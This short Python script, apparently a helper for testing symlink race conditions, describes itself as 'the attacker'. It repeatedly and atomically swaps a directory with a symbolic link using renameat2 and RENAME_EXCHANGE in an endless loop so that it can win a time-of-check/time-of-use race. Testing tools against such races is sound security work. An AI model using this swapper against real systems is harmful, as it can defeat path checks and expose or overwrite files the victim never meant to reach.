"""The attacker: swaps a directory with a link, again and again, until it is stopped.

    swapper.py DIRECTORY LINK PAUSE_MICROSECONDS
"""

import ctypes
import sys
import time

one, other = (name.encode() for name in sys.argv[1:3])
pause = int(sys.argv[3]) / 1e6
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
print("swapping", flush=True)
while True:
    libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)
    if pause:
        time.sleep(pause)
